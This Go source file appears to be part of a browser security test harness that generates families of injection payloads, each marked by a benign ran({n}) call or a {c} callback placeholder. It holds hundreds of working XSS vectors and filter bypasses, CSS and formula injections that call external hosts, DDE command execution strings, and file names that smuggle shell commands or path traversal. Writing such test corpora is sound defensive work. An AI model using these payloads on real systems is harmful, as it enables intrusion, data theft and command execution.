package browser

import (
	"fmt"
	"strings"
)

// The payloads, a pattern a line. Those that need characters that nobody sees
// in a source are written with escapes.

func families() []family {
	return []family{
		{inBody, lines(scripts)}, {inBody, handlers()}, {inBody, lines(foreign)}, {inBody, lines(requests)}, {inBody, invisible()}, {inBody, long()},
		{inDouble, breakouts(`"`)}, {inSingle, breakouts(`'`)}, {inBare, lines(bare)},
		{inLink, append(lines(links), "java\tscript:ran({n})", "java\nscript:ran({n})", "\x01javascript:ran({n})", "javascript:\u2028ran({n})")},
		{inFrame, lines(frames)}, {inStyle, lines(styles)}, {inStyleOf, lines(styleAttributes)},
		{inScript, quoted(`"`)}, {inScriptSingle, quoted(`'`)}, {inScriptText, lines(scriptTemplates)},
		{inScriptLine, []string{"x\u2028ran({n})", "x\u2029ran({n})", "x\nran({n})", "x\rran({n})"}},
		{inScriptComment, lines(scriptComments)}, {inComment, lines(comments)},
		{inTextarea, closing("textarea")}, {inTitle, closing("title")}, {inRaw, raw()},
		{inMarkdown, append(lines(markdown), "```html\n<script>ran({n})</script>\n```", "[x][y]\n[y]: javascript:ran({n})", "x\n===\n<img src=x onerror=ran({n})>")},
		{inTemplate, lines(templates)}, {decoded, lines(entities)}, {unescaped, lines(escapes)}, {fromUTF7, lines(utf7)}, {folded, lines(wide)},
		{stripped, hidden()}, {filtered, lines(filters)},
		{inTable, append(lines(formulas), "\t=1+{n}", "\r=1+{n}", "x\n=1+{n}", "x\r\n+{n}-1")},
		{asFileName, append(lines(fileNames), "{n}.txt\x00.html", "a\r\nX-Ran: {n}", "\u202egpj.{n}.exe", strings.Repeat("n", 260)+"{n}.html")},
	}
}

func lines(s string) []string { return strings.Split(strings.TrimSpace(s), "\n") }

const scripts = `
<script>ran({n})</script>
<SCRIPT>ran({n})</SCRIPT>
<sCrIpT>ran({n})</ScRiPt >
<script >ran({n})</script >
<script/x>ran({n})</script/x>
<script x="</script>">ran({n})</script>
<script type=module>ran({n})</script>
<script type=text/javascript>ran({n})</script>
<script type="application/javascript">ran({n})</script>
<script type="">ran({n})</script>
<script language=javascript>ran({n})</script>
<script charset=utf-7>ran({n})</script>
<script>ran({n})<!-- x </script>
<script>/*<!--*/ran({n})</script>
<<script>ran({n})//<</script>
<script>eval("ra"+"n({n})")</script>
<script>setTimeout("ran({n})")</script>
<script>setInterval(ran,9,{n})</script>
<script>Function("ran({n})")()</script>
<script>(()=>{}).constructor("ran({n})")()</script>
<script>alert({n})</script>
<script>confirm({n})</script>
<script>prompt({n})</script>
<script>document.title="ran {n}"</script>
<script>location="{c}"</script>
<script>location.replace("{c}")</script>
<script>location="javascript:ran({n})"</script>
<script>fetch("{c}")</script>
<script>navigator.sendBeacon("{c}")</script>
<script>new Image().src="{c}"</script>
<script>new WebSocket("ws:{c}")</script>
<script>new EventSource("{c}")</script>
<script>import("{c}")</script>
<script>document.write("<img src={c}>")</script>
<script>document.write("<scr"+"ipt>ran({n})</scr"+"ipt>")</script>
<script>onerror=ran;throw {n}</script>
<script>[{n}].map(ran)</script>
<script>Promise.resolve({n}).then(ran)</script>
<script>queueMicrotask(()=>ran({n}))</script>
<script>ran.call(0,{n})</script>
<script>Reflect.apply(ran,0,[{n}])</script>
<script>new ran({n})</script>
<script>ran` + "`{n}`" + `</script>
<script>\u0072an({n})</script>
<script>self["r"+"an"]({n})</script>
<script>top.ran({n})</script>
<script>{{ran({n})}}</script>
<script src={c}></script>
<script src="data:text/javascript,ran({n})"></script>
<script src=data:, onload=ran({n})></script>
<script async src={c}></script>
<script type=module src={c}></script>
<script type=module>import "{c}"</script>
<script src=x{n} onerror=ran({n})></script>
`

const foreign = `
<svg onload=ran({n})>
<svg/onload=ran({n})>
<svg/onload="ran({n})"/>
<svg><script>ran({n})</script></svg>
<svg><script>ran&#40;{n}&#41;</script></svg>
<svg><script><![CDATA[ran({n})]]></script></svg>
<svg><script href={c} />
<svg><script xlink:href=data:,ran({n}) />
<svg><svg onload=ran({n})>
<svg><a xlink:href=javascript:ran({n})><text y=9>x</text></a></svg>
<svg><a href=javascript:ran({n})><circle r=9 /></a></svg>
<svg><image href=x onerror=ran({n}) />
<svg><image href={c} />
<svg><foreignObject><img src=x onerror=ran({n})></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>ran({n})</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=ran({n})></style></svg>
<svg><title><img src=x onerror=ran({n})></title></svg>
<svg><desc><svg onload=ran({n})></desc></svg>
<svg><animate onbegin=ran({n}) attributeName=x dur=1s>
<svg><set onbegin=ran({n}) attributeName=x>
<svg><animateTransform onbegin=ran({n}) attributeName=transform dur=1s>
<svg><animateMotion onbegin=ran({n}) dur=1s path=M0,0>
<svg><animate onend=ran({n}) attributeName=x dur=1ms>
<svg><set attributeName=onclick to=1 onend=ran({n}) dur=1ms>
<svg></p><img src=x onerror=ran({n})>
<svg><p><img src=x onerror=ran({n})>
<math><mtext><img src=x onerror=ran({n})></mtext></math>
<math><mi><script>ran({n})</script></mi></math>
<math><annotation-xml encoding=text/html><img src=x onerror=ran({n})></annotation-xml></math>
<math><style><img src=x onerror=ran({n})></style></math>
<math onclick=ran({n})><mi>x</mi></math>
<noscript><p title="</noscript><img src=x onerror=ran({n})>">
<table><tr><td><img src=x onerror=ran({n})></td></table>
<table><img src=x onerror=ran({n})></table>
<a><b><table><a><svg onload=ran({n})></table>
<p><select></select><svg onload=ran({n})></p>
<iframe srcdoc="<script>ran({n})</script>"></iframe>
<iframe srcdoc="&lt;script&gt;ran({n})&lt;/script&gt;"></iframe>
<iframe srcdoc="<img src=x onerror=ran({n})>"></iframe>
<iframe src=javascript:ran({n})></iframe>
<iframe src="data:text/html,<script>ran({n})</script>"></iframe>
<object data="data:text/html,<script>ran({n})</script>"></object>
<embed src="data:text/html,<script>ran({n})</script>">
<form action=javascript:ran({n})><button>x</button></form>
<form><button formaction=javascript:ran({n})>x</button></form>
<form><input type=submit formaction=javascript:ran({n})></form>
<a href=javascript:ran({n})>x</a>
<a href=" javascript:ran({n})">x</a>
<a href="&#106;avascript:ran({n})">x</a>
<area href=javascript:ran({n}) shape=default>
<img usemap=#m{n} src=x><map name=m{n}><area href=javascript:ran({n})></map>
<div><template shadowrootmode=open><img src=x onerror=ran({n})></template></div>
<div popover id=o{n} onbeforetoggle=ran({n})></div><button popovertarget=o{n}>x</button>
<input list=d{n} onfocus=ran({n}) autofocus><datalist id=d{n}>
<isindex><input type=image src=x onerror=ran({n})>
`

const requests = `
<img src={c}>
<img srcset={c}>
<img src="{c}" loading=eager>
<image src={c}>
<picture><source srcset={c}><img></picture>
<video poster={c}></video>
<video src={c}></video>
<audio src={c}></audio>
<video><source src={c}></video>
<input type=image src={c}>
<iframe src={c}></iframe>
<object data={c}></object>
<embed src={c}>
<link rel=stylesheet href={c}>
<link rel=preload as=image href={c}>
<link rel=modulepreload href={c}>
<style>@import "{c}";</style>
<style>*{background:url({c})}</style>
<p style="background:url({c})">x</p>
<b style=list-style:url({c});display:list-item>x</b>
<body background={c}>
<table background={c}><tr><td>x</table>
<td background={c}>x</td><table><td background={c}>y</table>
<meta http-equiv=refresh content=0;url={c}>
<meta http-equiv=REFRESH content="0; URL='{c}'">
<base href={c}/>
<a href={c}>x</a>
<a href={c} target=_self>x</a>
<a ping={c} href=#x>x</a>
<form action={c}><input name=a></form>
<form action={c}><button>x</button></form>
<form><button formaction={c}>x</button></form>
<svg><feImage href={c} /><image xlink:href={c} />
<map name=c{n}><area href={c}></map>
`

// handlers are events that fire by themselves, events of people at many
// elements, and one handler in many spellings.
func handlers() (all []string) {
	all = lines(`
<img src=x onerror=ran({n})>
<img srcset=x onerror=ran({n})>
<video src=x onerror=ran({n})></video>
<audio src=x onerror=ran({n})></audio>
<video><source src=x onerror=ran({n})></video>
<object data=x{n} onerror=ran({n})></object>
<input type=image src=x onerror=ran({n})>
<link rel=stylesheet href=x onerror=ran({n})>
<iframe onload=ran({n})></iframe>
<body onload=ran({n})>
<body onpageshow=ran({n})>
<style onload=ran({n})></style>
<link rel=stylesheet href=data:text/css, onload=ran({n})>
<details open ontoggle=ran({n})>x</details>
<input autofocus onfocus=ran({n})>
<textarea autofocus onfocus=ran({n})></textarea>
<select autofocus onfocus=ran({n})></select>
<button autofocus onfocus=ran({n})>x</button>
<a href=#x autofocus onfocus=ran({n})>x</a>
<p tabindex=1 autofocus onfocus=ran({n})>x</p>
<p contenteditable autofocus onfocus=ran({n})>x</p>
<style>@keyframes k{}</style><p style=animation:k onanimationstart=ran({n})>x</p>
<audio src=data:audio/wav;base64, onerror=ran({n})></audio>
<video src=x onloadstart=ran({n})></video>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=ran({n})>
<IMG SRC=x ONERROR=ran({n})>
<img src=x onerror="ran({n})">
<img src=x onerror='ran({n})'>
<img/src="x"/onerror=ran({n})>
<img src=x onerror = ran({n}) >
<img onerror=ran({n}) src>
<img src=x onerror=&#114;an({n})>
<img src=x onerror=&#x72;an&lpar;{n}&rpar;>
<img src=x onerror=javascript:ran({n})>
<img src=x onerror="ran&#x28;{n}&#x29;//"
<img """><img src=x onerror=ran({n})>">
<img src=` + "``" + ` onerror=ran({n})>
<x><img src=x onerror=ran({n})></x>
<img src=x onerror=\u0072an({n})>
<img src=x a='>' onerror=ran({n})>
<!--x--><img src=x onerror=ran({n})><!--
<?x <img src=x onerror=ran({n})>?><img src=x onerror=ran({n})>
</x><img src=x onerror=ran({n})>
<img src=x onerror=eval("ra"+"n({n})")>
<img src=x onerror=window.onerror=ran;throw[{n}]>
<img src=x onerror=top["ra"+"n"]({n})>
`)
	all = append(all, "<img\nsrc=x\nonerror=ran({n})>", "<img\tsrc=x\tonerror=ran({n})>", "<img\x0csrc=x\x0conerror=ran({n})>", "<img src=x onerror\n=\nran({n})>", "<svg\nonload=ran({n})>", "<script\n>ran({n})</script\n>", "<script\x0c>ran({n})</script>")
	elements := strings.Fields("p b i u q s tt li dd h1 em a x-y center font span code kbd")
	for i, event := range strings.Fields(`click dblclick mouseover mouseenter mousemove mousedown mouseup mouseout mouseleave auxclick contextmenu wheel
		pointerdown pointerup pointermove pointerover pointerenter pointerout pointercancel gotpointercapture lostpointercapture keydown keyup keypress
		input change beforeinput invalid select submit reset formdata copy cut paste drag dragstart dragend dragenter dragover dragleave drop focus blur
		scroll scrollend selectstart toggle beforetoggle cancel close animationend animationiteration
		canplay play pause seeked waiting volumechange ratechange timeupdate ended stalled emptied slotchange securitypolicyviolation beforecopy beforecut beforepaste`) {
		e := elements[i%len(elements)]
		all = append(all, fmt.Sprintf("<%s on%s=ran({n})>x</%s>", e, event, e))
	}
	return all
}

// breakouts leave an attribute by its quote.
func breakouts(quote string) (all []string) {
	for _, pattern := range lines(`
"><script>ran({n})</script>
"><img src=x onerror=ran({n})>
"><svg onload=ran({n})>
"/><script>ran({n})</script>
">x</a><script>ran({n})</script>
"</input><svg/onload=ran({n})>
" onmouseover="ran({n})
" onclick=ran({n}) x="
"onclick=ran({n}) x="
"/onclick=ran({n})//x="
" autofocus onfocus="ran({n})
" autofocus onfocus=&#114;an({n}) x="
" type=image src=x onerror="ran({n})
" style=animation-name:x onmousedown="ran({n})
" tabindex=1 onkeydown="ran({n})
x" ONCLICK="ran({n})
x"><a href=javascript:ran({n})>x</a>
x"><iframe srcdoc='&lt;script&gt;ran({n})&lt;/script&gt;'></iframe>
x"><style>*{background:url({c})}</style>
x"><meta http-equiv=refresh content=0;url={c}>
`) {
		all = append(all, strings.ReplaceAll(pattern, `"`, quote))
	}
	return append(all, "x"+quote+"\tonclick=ran({n}) x="+quote, "x"+quote+"\nonclick=ran({n}) x="+quote, "x"+quote+"\x0conclick=ran({n}) x="+quote)
}

const bare = `
x onclick=ran({n})
x onmouseover=ran({n}) y
x autofocus onfocus=ran({n})
x><script>ran({n})</script>
x><img/src="x"/onerror=ran({n})>
x/><svg/onload=ran({n})>
x type=image src=x onerror=ran({n})
"x"onclick=ran({n})
x style=background:url({c})
`

const links = `
javascript:ran({n})
JaVaScRiPt:ran({n})
JAVASCRIPT:ran({n})
javascript:ran({n});
javascript:void(ran({n}))
javascript: ran({n})
javascript://%0aran({n})
javascript://example.org/%0Aran({n})//
javascript:/*https://example.org/*/ran({n})
javascript:%72an({n})
javascript:ran%28{n}%29
javascript:'<script>ran({n})</script>'
javascript:"<img src=x onerror=ran({n})>"
javascript:alert({n})
javascript:document.title="ran {n}";void(0)
javascript:void(fetch("{c}"))
javascript:location="{c}"
javascript:eval("ran({n})")
javascript:[{n}].map(ran);void(0)
javascript:top.ran({n})
javascript:ran({n})//https://example.org/
javascript:https://example.org/?q%0Aran({n})
&#106;avascript:ran({n})
&#x6A;avascript:ran({n})
&#0000106avascript:ran({n})
java&Tab;script:ran({n})
java&NewLine;script:ran({n})
javascript&colon;ran({n})
javascript&#58;ran({n})
javascript&#x3A;ran({n})
javascript:ran&lpar;{n}&rpar;
{c}
http:{c}
http:/{c}
HTTP:{c}
http:{c}?q=https://example.org/
http://example.org@127.0.0.1/../{n}#" onclick="ran({n})
https://example.org/{n}" onclick="ran({n})
https://example.org/"><script>ran({n})</script>
`

const frames = `
data:text/html,<script>ran({n})</script>
data:text/html;charset=utf-8,<img src=x onerror=ran({n})>
DATA:text/html,<svg onload=ran({n})>
data:text/html,%3Cscript%3Eran({n})%3C/script%3E
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran({n})"/>
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran({n})'/>
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>ran({n})</script></svg>
data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>ran({n})</script></html>
data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran({n})</x:script>
javascript:parent.ran({n})
JAVASCRIPT:ran({n})
javascript:'<script>ran({n})</script>'
{c}/frame
`

const styles = `
*{background:url({c})}
*{background:url("{c}")}
*{background-image:url('{c}')}
x{y:z}*{background:url({c})}/*
@import "{c}";
@import url({c});
@IMPORT '{c}';
@import "{c}" screen;
@media all{*{background:url({c})}}
@supports(color:red){*{background:url({c})}}
@layer x{*{background:url({c})}}
@font-face{font-family:x;src:url({c})}*{font-family:x}
*::before{content:url({c})}
*{b\61 ckground:u\72l({c})}
*{background:image-set("{c}" 1x)}
:root{--x:url({c});background:var(--x)}
p{list-style-image:url({c});display:list-item}
p{border:9px solid;border-image:url({c}) 1}
p{mask-image:url({c})}
body:has(p){background:url({c})}
p:not([x]){background:url({c})}
*{color:red;}</style><script>ran({n})</script><style>
</style><img src=x onerror=ran({n})>
</STYLE ><svg onload=ran({n})>
`

const styleAttributes = `
background:url({c})
x:y;background:url({c})
background-image:url('{c}')
color:red;background:url({c});
BACKGROUND:URL({c})
back/**/ground:x;background:/**/url({c})
list-style:url({c});display:list-item
border:9px solid;border-image:url({c}) 1
--x:url({c});background:var(--x)
x" onclick="ran({n})
color:red"><script>ran({n})</script>
`

// quoted leave a script's string by its quote.
func quoted(quote string) (all []string) {
	for _, pattern := range lines(`
";ran({n});//
"-ran({n})-"
"+ran({n})+"
",ran({n}),"
"||ran({n})||"
"?0:ran({n})//
";ran({n});"
"*ran({n})*"
"|ran({n})//
";alert({n});//
";location="{c}";//
";document.title="ran {n}";//
x</script><script>ran({n})</script>
x</script><img src=x onerror=ran({n})>
`) {
		all = append(all, strings.ReplaceAll(pattern, `"`, quote))
	}
	return all
}

const scriptTemplates = `
${ran({n})}
x${ran({n})}y
${[{n}].map(ran)}
${eval("ran({n})")}
` + "`;ran({n});`" + `
` + "`+ran({n})+`" + `
` + "`-ran({n})//" + `
${fetch("{c}")}
`

const scriptComments = `
*/ran({n})/*
*/;ran({n});//
x*/ran({n});/*y
`

const comments = `
--><script>ran({n})</script>
--><img src=x onerror=ran({n})>
--!><img src=x onerror=ran({n})>
><img src=x onerror=ran({n})>
-><svg onload=ran({n})>
x--><svg/onload=ran({n})><!--
--><meta http-equiv=refresh content=0;url={c}>
`

// closing leave an element in which tags are text.
func closing(element string) (all []string) {
	for _, pattern := range lines(`
</E><script>ran({n})</script>
</E ><img src=x onerror=ran({n})>
</E/x><svg onload=ran({n})>
x</E><iframe srcdoc="<script>ran({n})</script>">
</E><E></E><a href=javascript:ran({n})>x</a>
</E><p onclick=ran({n})>x</p>
</E><style>@import "{c}";</style>
`) {
		all = append(all, strings.ReplaceAll(pattern, "E", element))
	}
	return append(all, "</"+element+"\n><img src=x onerror=ran({n})>", "</"+strings.ToUpper(element)+"><script>ran({n})</script>")
}

// raw leave the other elements in which tags are text. The control puts each
// into the element that it closes.
func raw() (all []string) {
	for _, e := range []string{"style", "xmp", "noembed", "noframes", "noscript", "iframe", "script"} {
		all = append(all, "</"+e+"><script>ran({n})</script>", "x</"+e+" ><img src=x onerror=ran({n})>")
	}
	return all
}

const markdown = `
[x](javascript:ran({n}))
[x](JaVaScRiPt:ran({n}))
[x](javascript://%0aran({n}))
[x]({c})
[x](http:{c})
[x](x" onclick="ran({n}))
[<img src=x onerror=ran({n})>](y)
![x]({c})
![x](x" onerror="ran({n}))
![" onerror="ran({n})](x)
[![x]({c})](y)
<javascript:ran({n})>
**<img src=x onerror=ran({n})>**
# <svg onload=ran({n})>
> <script>ran({n})</script>
- <img src=x onerror=ran({n})>
| <img src=x onerror=ran({n})> | x |
~~<b onclick=ran({n})>x</b>~~
***<details open ontoggle=ran({n})>x</details>***
`

const templates = `
{{ran({n})}}
{{ ran({n}) }}
{{{ran({n})}}}
{{this.ran({n})}}
{{[{n}].map(ran)}}
{{constructor.constructor("ran({n})")()}}
{{"x".constructor.constructor("ran({n})")()}}
{{ran({n})|safe}}
{{(()=>ran({n}))()}}
${ran({n})}
${{x:ran({n})}}
#{ran({n})}
*{ran({n})}
%{ran({n})}
<%= ran({n}) %>
<%ran({n})%>
<%- ran({n}) -%>
{%ran({n})%}
[[ran({n})]]
[[${ran({n})}]]
@(ran({n}))
$(ran({n}))
<?= ran({n}) ?>
{{alert({n})}}
{{location="{c}"}}
`

const entities = `
&lt;script&gt;ran({n})&lt;/script&gt;
&LT;script&GT;ran({n})&LT;/script&GT;
&lt;img src=x onerror=ran({n})&gt;
&lt;img src=x onerror=ran({n})&gt
&#60;script&#62;ran({n})&#60;/script&#62;
&#60img src=x onerror=ran({n})&#62
&#x3C;svg onload=ran({n})&#x3E;
&#X3c;svg onload=ran({n})&#X3e;
&#0000060;img src=x onerror=ran({n})&#0000062;
&#x000003c;img src=x onerror=ran({n})&#x000003e;
&amp;lt;script&amp;gt;ran({n})&amp;lt;/script&amp;gt;
&amp;#60;img src=x onerror=ran({n})&amp;#62;
&lt;a href=javascript&colon;ran({n})&gt;x&lt;/a&gt;
&lt;p onclick=&quot;ran({n})&quot;&gt;x&lt;/p&gt;
&lt;iframe srcdoc=&quot;&lt;script&gt;ran({n})&lt;/script&gt;&quot;&gt;
`

const escapes = `
%3Cscript%3Eran({n})%3C/script%3E
%3cimg src=x onerror=ran({n})%3e
%253Cscript%253Eran({n})%253C/script%253E
%u003Cimg src=x onerror=ran({n})%u003E
\u003cscript\u003eran({n})\u003c/script\u003e
\u003Cimg src=x onerror=ran({n})\u003E
\x3cimg src=x onerror=ran({n})\x3e
\74img src=x onerror=ran({n})\76
\u{3c}svg onload=ran({n})\u{3e}
%3Csvg%20onload%3Dran({n})%3E
\u0025u003cimg src=x onerror=ran({n})\u0025u003e
%5Cu003cimg src=x onerror=ran({n})%5Cu003e
`

const utf7 = `
+ADw-script+AD4-ran({n})+ADw-/script+AD4-
+ADw-img src=x onerror=ran({n})+AD4-
+ADw-svg onload+AD0-ran({n})+AD4-
+ADwAcw-cript+AD4-ran({n})+ADw-/script+AD4-
+/v8-+ADw-script+AD4-ran({n})+ADw-/script+AD4-
+ADw-a href+AD0-javascript:ran({n})+AD4-x+ADw-/a+AD4-
+ACIAPgA8-img src=x onerror=ran({n})+AD4-
`

const wide = `
＜script＞ran({n})＜/script＞
＜img src=x onerror=ran({n})＞
﹤svg onload=ran({n})﹥
＜ｉｍｇ ｓｒｃ=x ｏｎｅｒｒｏｒ=ran({n})＞
＜ｓｃｒｉｐｔ＞ran({n})＜／ｓｃｒｉｐｔ＞
＜svg onload＝ran（{n}）＞
`

// invisible are characters that reorder, hide or steer, around a payload.
func invisible() (all []string) {
	for _, c := range []rune{0x202A, 0x202B, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x200E, 0x200F, 0x061C, 0x200B, 0x2060, 0xFEFF, 0xFFFE, 0x2028, 0x00AD, 0x0000, 0x0007, 0x0008, 0x001B, 0x007F, 0x0085, 0x009B, 0xE0041, 0xFFFD} {
		all = append(all, string(c)+"<img src=x onerror=ran({n})>"+string(c)+"x")
	}
	return append(all,
		"\u202egpj.<svg onload=ran({n})>\u202c", "<script>/*\u202e*/ran({n})/*\u202c*/</script>", "<script>ran({n})//\u2066\u2069</script>", "abc\u202e<p onclick=ran({n})>fed</p>",
		"\u05d0\u05d1<script>ran({n})</script>\u05d2", "\u0627\u0644<script>ran({n})</script>\u0639", "a\u0300\u0301\u0302\u0303\u0304\u0305<svg onload=ran({n})>",
		"\U0001F3F4\u200D\u2620\uFE0F<svg onload=ran({n})>", "\u0430<img src=x onerror=ran({n})>", "Gаmbia<img src=x onerror=ran({n})>", "\x1b]0;x\x07<script>ran({n})</script>", "\x1b[31m<script>ran({n})</script>",
		"x\r\nContent-Type: text/html\r\n\r\n<script>ran({n})</script>", "x\r\n\r\n<img src=x onerror=ran({n})>")
}

// hidden work once something takes out what cannot be seen.
func hidden() (all []string) {
	for _, c := range []string{"\x00", "\x01", "\x7f", "\u00ad", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u202e", "\u2066", "\U000E0020"} {
		all = append(all, "<scr"+c+"ipt>ran({n})</scr"+c+"ipt>", "<"+c+"img src=x onerr"+c+"or=ran({n})>")
	}
	return all
}

const filters = `
<scr<script>ipt>ran({n})</scr</script>ipt>
<<script>script>ran({n})<</script>/script>
<im<script>g src=x onerror=ran({n})>
<img src=x oner<script>ror=ran({n})>
<sv</script>g onload=ran({n})>
<a href=java<script>script:ran({n})>x</a>
`

// long are long texts, within the longest field and past it.
func long() []string {
	return []string{
		strings.Repeat("A", 200) + "<script>ran({n})</script>", strings.Repeat("word ", 150) + "<script>ran({n})</script>", strings.Repeat("<b>", 90) + "<img src=x onerror=ran({n})>",
		strings.Repeat("<div>", 500) + "<svg onload=ran({n})>", strings.Repeat("&", 250) + "<script>ran({n})</script>", strings.Repeat(`"'`, 125) + "><svg onload=ran({n})>",
		strings.Repeat("\u202b\u0639", 100) + "<svg onload=ran({n})>", strings.Repeat("W", 2900) + "<script>ran({n})</script>", strings.Repeat("\U0001F30D", 280) + "<script>ran({n})</script>",
		strings.Repeat("x ", 4000) + "<script>ran({n})</script>", strings.Repeat("a\u0489", 90) + "<svg onload=ran({n})>",
	}
}

const formulas = `
=1+{n}
=HYPERLINK("http:{c}","x")
=HYPERLINK("http:{c}?"&A1)
=IMPORTXML("http:{c}","//a")
=IMPORTDATA("http:{c}")
=WEBSERVICE("http:{c}")
=IMAGE("http:{c}")
=cmd|' /C calc {n}'!A0
=DDE("cmd";"/C calc {n}";"x")
=EXEC("calc {n}")
=A{n}
=-{n}+1
=+{n}+1
=@SUM({n})
+{n}+cmd|' /C calc'!A0
+SUM({n},1)
-{n}+3
-1+cmd|' /C calc {n}'!A0
@SUM({n}+1)
@SUM(1+1)*cmd|' /C calc {n}'!A0
＝1+{n}
＋{n}+1
－{n}+1
＠SUM({n})
=1+{n}" x
x",=1+{n}
x";=1+{n}
x,=1+{n}
x;=1+{n}
x,@SUM({n})
=(1+{n})
=" x"&{n}
`

const fileNames = `
"><img src=x onerror=ran({n})>.png
'><svg onload=ran({n})>.svg
<script>ran({n})</script>.txt
../../{n}.html
..\..\{n}.hta
/etc/{n}
C:\{n}.exe
file:///{n}
a"; filename="{n}.html
a;filename*=UTF-8''{n}.html
%2e%2e%2f{n}.html
{n}.pdf .exe
{n}.html%00.pdf
.{n}
{n}.
-rf {n}
$(touch {n})
` + "`touch {n}`.txt" + `
|touch {n}
{n} & calc.exe
CON {n}
{n}:stream
{n}?.html
{n}*.html
javascript:ran({n}).html
`
